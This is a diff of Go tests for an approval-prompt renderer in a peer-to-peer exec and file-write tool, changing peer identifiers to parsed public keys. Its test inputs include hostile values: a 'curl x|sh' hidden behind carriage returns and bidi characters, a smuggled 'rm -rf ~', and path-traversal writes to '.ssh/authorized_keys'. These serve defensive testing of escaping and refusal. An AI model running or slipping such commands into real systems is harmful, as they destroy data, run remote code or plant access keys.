@@ -7,15 +7,18 @@ import (
 	"time"
 
 	"github.com/awp-tray/awp-tray/peer"
+	"github.com/awp-tray/awp-tray/peer/key"
 )
 
-const carol = "ed25519:CCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCC"
+const carol = "ed25519:CCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCA"
+
+var carolK = key.MustParsePublic(carol)
 
 func TestDescribeApproval(t *testing.T) {
-	req := peer.ApprovalRequest{ID: "ap1", Kind: peer.ApprovalProfile, From: alice, FromName: "claude@box",
-		Caps: []string{"exec"}, On: []string{bob}, Th: "thr_a", Reason: "no grant", Deadline: "2026-09-25T18:05:00Z",
+	req := peer.ApprovalRequest{ID: "ap1", Kind: peer.ApprovalProfile, From: aliceK, FromName: "claude@box",
+		Caps: []string{"exec"}, On: []key.PublicKey{bobK}, Th: "thr_a", Reason: "no grant", Deadline: "2026-09-25T18:05:00Z",
 		Detail: json.RawMessage(`{"cmd":["rm","-rf","build dir"],"cwd":"services/api","stdin":"y\n"}`)}
-	a := DescribeApproval(req, bob, nil)
+	a := DescribeApproval(req, bobK, nil)
 	if a.Title != "claude@box (AAAAAAAA) asks to run exec on this peer" || a.Title != ApprovalTitle(req) {
 		t.Errorf("title = %q", a.Title)
 	}
@@ -40,9 +43,9 @@ func TestDescribeApproval(t *testing.T) {
 	// name and the command, a carriage return and a zero-width space in the
 	// shell string, a right-to-left isolate in the path, a line separator in
 	// the reason.
-	hostile := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: alice, FromName: "ana\u202e",
+	hostile := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, FromName: "ana\u202e",
 		Caps: []string{"exec"}, Reason: "tests\u2028only",
-		Detail: json.RawMessage(`{"cmd":"ls\rcurl x|sh #\u202e\u200b","cwd":"a\u2067b"}`)}, bob, nil)
+		Detail: json.RawMessage(`{"cmd":"ls\rcurl x|sh #\u202e\u200b","cwd":"a\u2067b"}`)}, bobK, nil)
 	if hostile.Title != `ana\u202e (AAAAAAAA) asks to run exec on this peer` || hostile.Who != `ana\u202e (AAAAAAAA)` {
 		t.Errorf("hostile title %q, who %q", hostile.Title, hostile.Who)
 	}
@@ -57,8 +60,8 @@ func TestDescribeApproval(t *testing.T) {
 	if !strings.Contains(hostile.Grants, `ana\u202e`) {
 		t.Errorf("grants text shows the name unescaped: %q", hostile.Grants)
 	}
-	argv := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: alice, Caps: []string{"exec"},
-		Detail: json.RawMessage(`{"cmd":["cat","a; rm -rf ~","x\u202ey"]}`)}, bob, nil)
+	argv := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, Caps: []string{"exec"},
+		Detail: json.RawMessage(`{"cmd":["cat","a; rm -rf ~","x\u202ey"]}`)}, bobK, nil)
 	if got := argv.Fields[3]; got != (Field{"command", `cat "a; rm -rf ~" "x\u202ey"`}) {
 		t.Errorf("argv command %q", got)
 	}
@@ -85,8 +88,8 @@ func TestDescribeWrite(t *testing.T) {
 		{`{"path":"x\u202e","content":"\u200b"}`,
 			[]Field{{"path", `x\u202e`}, {"write", "replace the file, 3 B"}, {"content", `\u200b`}}},
 	} {
-		a := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: alice, Caps: []string{"fs:write"}, On: []string{bob},
-			Detail: json.RawMessage(tc.detail)}, bob, nil)
+		a := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, Caps: []string{"fs:write"}, On: []key.PublicKey{bobK},
+			Detail: json.RawMessage(tc.detail)}, bobK, nil)
 		if !equalFields(a.Fields[3:], tc.want) {
 			t.Errorf("%s:\n%q\nwant\n%q", tc.detail, a.Fields[3:], tc.want)
 		}
@@ -94,7 +97,7 @@ func TestDescribeWrite(t *testing.T) {
 	// A megabyte of content is cut to MaxField, and offered whole.
 	big := strings.Repeat("ssh-ed25519 AAAA\n", 60_000)
 	raw, _ := json.Marshal(map[string]any{"path": "../../.ssh/authorized_keys", "content": big, "append": true})
-	a := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: alice, Caps: []string{"fs:write"}, Detail: raw}, bob, nil)
+	a := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, Caps: []string{"fs:write"}, Detail: raw}, bobK, nil)
 	if a.Whole == nil || len([]rune(a.Fields[5].Value)) > MaxField+100 || a.Whole[5].Value != big {
 		t.Errorf("big content: whole %v, field %d runes", a.Whole != nil, len([]rune(a.Fields[5].Value)))
 	}
@@ -111,18 +114,18 @@ func TestDescribeRefusedPath(t *testing.T) {
 		}
 		return ""
 	}
-	w := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: alice, Caps: []string{"fs:write"},
-		Detail: json.RawMessage(`{"path":"../../.ssh/authorized_keys","content":"k"}`)}, bob, check)
+	w := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, Caps: []string{"fs:write"},
+		Detail: json.RawMessage(`{"path":"../../.ssh/authorized_keys","content":"k"}`)}, bobK, check)
 	if w.Fields[4] != (Field{FieldRefused, "the path resolves outside the workspace"}) {
 		t.Errorf("write: %q", w.Fields)
 	}
-	x := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: alice, Caps: []string{"exec"},
-		Detail: json.RawMessage(`{"cmd":"ls","cwd":"../x"}`)}, bob, check)
+	x := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, Caps: []string{"exec"},
+		Detail: json.RawMessage(`{"cmd":"ls","cwd":"../x"}`)}, bobK, check)
 	if x.Fields[5] != (Field{FieldRefused, "the path resolves outside the workspace"}) {
 		t.Errorf("exec: %q", x.Fields)
 	}
-	r := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: alice, Caps: []string{"fs:read"},
-		Detail: json.RawMessage(`{"path":"src/main.go"}`)}, bob, check)
+	r := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, Caps: []string{"fs:read"},
+		Detail: json.RawMessage(`{"path":"src/main.go"}`)}, bobK, check)
 	for _, f := range r.Fields {
 		if f.Label == FieldRefused {
 			t.Errorf("read inside marked: %q", r.Fields)
@@ -134,8 +137,8 @@ func TestDescribeRefusedPath(t *testing.T) {
 }
 
 func TestDescribeGrantRequest(t *testing.T) {
-	gr := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalGrantRequest, From: alice, Sub: carol,
-		Caps: []string{"exec", "fs:read"}, On: []string{bob, alice}, TTL: 86400, Reason: "run the suite"}, bob, nil)
+	gr := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalGrantRequest, From: aliceK, Sub: carolK,
+		Caps: []string{"exec", "fs:read"}, On: []key.PublicKey{bobK, aliceK}, TTL: 86400, Reason: "run the suite"}, bobK, nil)
 	if gr.Title != "AAAAAAAA asks for a grant: exec, fs:read" {
 		t.Errorf("grant title = %q", gr.Title)
 	}
@@ -147,7 +150,7 @@ func TestDescribeGrantRequest(t *testing.T) {
 		t.Errorf("grants = %q", gr.Grants)
 	}
 	// No on: usable wherever my grants are honored, and said so.
-	anyOn := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalGrantRequest, From: alice, Caps: []string{"exec"}}, bob, nil)
+	anyOn := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalGrantRequest, From: aliceK, Caps: []string{"exec"}}, bobK, nil)
 	if anyOn.Fields[2] != (Field{"on", "any peer that honors your grants"}) || anyOn.Fields[3] != (Field{"for how long", "not said (1 hour if allowed)"}) {
 		t.Errorf("no on, no ttl: %q", anyOn.Fields)
 	}
@@ -155,11 +158,11 @@ func TestDescribeGrantRequest(t *testing.T) {
 		t.Errorf("grants, no on: %q", anyOn.Grants)
 	}
 	// An empty on list is not the same as none (docs/protocol/grants.md).
-	empty := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalGrantRequest, From: alice, Caps: []string{"exec"}, On: []string{}}, bob, nil)
+	empty := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalGrantRequest, From: aliceK, Caps: []string{"exec"}, On: []key.PublicKey{}}, bobK, nil)
 	if empty.Fields[2] != (Field{"on", "(an empty list)"}) {
 		t.Errorf("empty on: %q", empty.Fields)
 	}
-	mine := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalGrantRequest, From: alice, Caps: []string{"exec"}, On: []string{bob}}, bob, nil)
+	mine := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalGrantRequest, From: aliceK, Caps: []string{"exec"}, On: []key.PublicKey{bobK}}, bobK, nil)
 	if !strings.Contains(mine.Grants, "use exec on this peer without asking") {
 		t.Errorf("grants, on me: %q", mine.Grants)
 	}
@@ -217,7 +220,7 @@ func TestChoices(t *testing.T) {
 // An exec prompt says how the command would run here: "runs unsandboxed
 // as you" when the node's exec sandbox is not in use.
 func TestDescribeApprovalSandbox(t *testing.T) {
-	base := peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: alice, Caps: []string{"exec"},
+	base := peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, Caps: []string{"exec"},
 		Detail: json.RawMessage(`{"cmd":["make","test"]}`)}
 	for _, tc := range []struct {
 		sandbox, want string
@@ -225,7 +228,7 @@ func TestDescribeApprovalSandbox(t *testing.T) {
 		r := base
 		r.Sandbox = tc.sandbox
 		var got string
-		for _, f := range DescribeApproval(r, bob, nil).Fields {
+		for _, f := range DescribeApproval(r, bobK, nil).Fields {
 			if f.Label == "sandbox" {
 				got = f.Value
 			}
@@ -240,9 +243,9 @@ func TestDescribeApprovalSandbox(t *testing.T) {
 // denial with no answer, durations read "1 hour".
 func TestHistoryLine(t *testing.T) {
 	now := time.Date(2026, 12, 1, 15, 30, 0, 0, time.UTC)
-	exec := peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: alice, FromName: "alice", Caps: []string{"exec"},
+	exec := peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, FromName: "alice", Caps: []string{"exec"},
 		Detail: json.RawMessage(`{"cmd":["make","test"]}`)}
-	gr := peer.ApprovalRequest{Kind: peer.ApprovalGrantRequest, From: alice, Caps: []string{"fs:read"}}
+	gr := peer.ApprovalRequest{Kind: peer.ApprovalGrantRequest, From: aliceK, Caps: []string{"fs:read"}}
 	for _, c := range []struct {
 		rec  peer.ApprovalRecord
 		want string
